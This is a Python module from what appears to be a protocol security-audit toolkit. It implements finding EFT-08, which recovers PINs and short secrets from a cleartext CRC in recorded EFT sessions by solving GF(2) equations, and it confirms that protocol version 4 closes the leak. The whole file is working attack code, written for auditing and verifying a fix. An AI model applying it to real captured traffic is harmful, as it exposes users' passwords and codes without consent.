"""Read plaintext out of the 1603 CRC: a passive eavesdropper needs no key.

The server sends the cksum of the decrypted file in the clear (1603), and every 828
gives the file's exact size. cksum is an affine function of the file's bits for a
given length, so each 1603 is 32 linear equations on the plaintext. When the attacker
knows the file's shape and fewer than about 32 bits are unknown (a PIN, a one-time
code, a short password in a known config file, a yes/no answer), solving the
equations over GF(2) gives the plaintext at once, no guessing.

``--pattern`` describes the file: ``#`` is an unknown decimal digit (4 unknown bits),
``?`` an unknown byte (8 bits), anything else is known; Python escapes such as ``\\n``
work. Every recorded attempt whose size matches the pattern is attacked. Success:
exactly one plaintext fits.

``--protocol 4``: the digest is BLAKE3, sent inside the sealed 1603 record. The
eavesdropper still sees each upload's exact size in the clear (the data records'
lengths), so it can list every plaintext that fits the pattern, but nothing in the
recording tells them apart: no candidate can be confirmed without a record key.
"""

from __future__ import annotations

import argparse
import codecs
from pathlib import Path

from eft_protocol.cksum import cksum

from .common import AttackError, Out
from .gf2 import members, solutions, solve
from .recording import all_attempts, load_sessions
from .v4 import add_protocol_argument, v4_views

FINDING = "EFT-08"
SUMMARY = "recover low-entropy plaintext from the cleartext CRC in 1603 (passive)"


def add_arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--recording", required=True, help="made by 'eft-attack record'")
    parser.add_argument("--pattern", required=True, help="e.g. 'PIN: ######\\n'")
    parser.add_argument("--file", help="only attempts at this file name")
    add_protocol_argument(parser)


def recover(pattern: bytes, crc: int) -> list[bytes]:
    """Every plaintext that fits ``pattern`` and has this cksum."""
    base = bytearray(pattern)
    unknown: list[tuple[int, int]] = []  # (byte index, bit)
    digits = []
    for i, char in enumerate(pattern):
        if char == ord("#"):
            base[i] = ord("0")
            digits.append(i)
            unknown += [(i, bit) for bit in range(4)]
        elif char == ord("?"):
            base[i] = 0
            unknown += [(i, bit) for bit in range(8)]
    if not unknown:
        return [bytes(base)] if cksum(bytes(base)) == crc else []
    zeros = cksum(bytes(len(base)))
    effects = []
    for i, bit in unknown:
        single = bytearray(len(base))
        single[i] = 1 << bit
        effects.append(cksum(bytes(single)) ^ zeros)
    particular, null = solve(effects, crc ^ cksum(bytes(base)))
    if particular is None:
        return []
    found = []
    for subset in solutions(particular, null):
        candidate = bytearray(base)
        for index in members(subset):
            i, bit = unknown[index]
            candidate[i] ^= 1 << bit
        if all(candidate[i] <= ord("9") for i in digits):
            found.append(bytes(candidate))
    return found


def run_v4(args: argparse.Namespace, pattern: bytes, unknown_bits: int, out: Out) -> bool:
    candidates = 10 ** pattern.count(b"#") * 256 ** pattern.count(b"?")
    fitting = []
    sealed = 0
    for view in v4_views(load_sessions(Path(args.recording))):
        for upload in view.uploads:
            sealed += upload.received is not None
            if upload.data_bytes == len(pattern) and upload.received is not None:
                fitting.append(
                    {
                        "connection": view.conn,
                        "size": upload.data_bytes,
                        "sealed_1603_bytes": len(upload.received.frame.payload),
                    }
                )
    out.step(
        f"{len(fitting)} upload(s) of {len(pattern)} bytes; their 1603 is sealed",
        uploads=fitting,
        candidates=candidates,
    )
    return out.result(
        False,
        f"{sealed} sealed 1603 record(s), no cleartext digest: each of the {candidates} "
        "plaintexts that fit the pattern fits the recording equally",
        files=[],
        sized=fitting,
        candidates=candidates,
        sealed=sealed,
    )


async def run(args: argparse.Namespace, out: Out) -> bool:
    pattern = codecs.decode(args.pattern, "unicode_escape").encode("latin-1")
    unknown_bits = 4 * pattern.count(b"#") + 8 * pattern.count(b"?")
    out.step(f"pattern of {len(pattern)} bytes with {unknown_bits} unknown bits")
    if unknown_bits > 52:
        raise AttackError("more than 52 unknown bits: too many solutions to list")
    if args.protocol == 4:
        return run_v4(args, pattern, unknown_bits, out)
    recovered: list[dict[str, str]] = []
    for _view, attempt in all_attempts(load_sessions(Path(args.recording))):
        if args.file and attempt.file_name != args.file:
            continue
        if attempt.orig_size != len(pattern) or attempt.cksum is None:
            continue
        candidates = recover(pattern, attempt.cksum)
        out.step(
            f"{attempt.file_name!r} ({attempt.orig_size} bytes, cksum {attempt.cksum})",
            candidates=[c.decode("latin-1") for c in candidates[:10]],
            count=len(candidates),
        )
        if len(candidates) == 1:
            plaintext = candidates[0].decode("latin-1")
            recovered.append({"file_name": attempt.file_name, "plaintext": plaintext})
    if not recovered:
        return out.result(False, "no attempt of that size had exactly one fitting plaintext")
    return out.result(
        True,
        f"recovered {len(recovered)} file(s) from their CRC alone",
        files=recovered,
    )
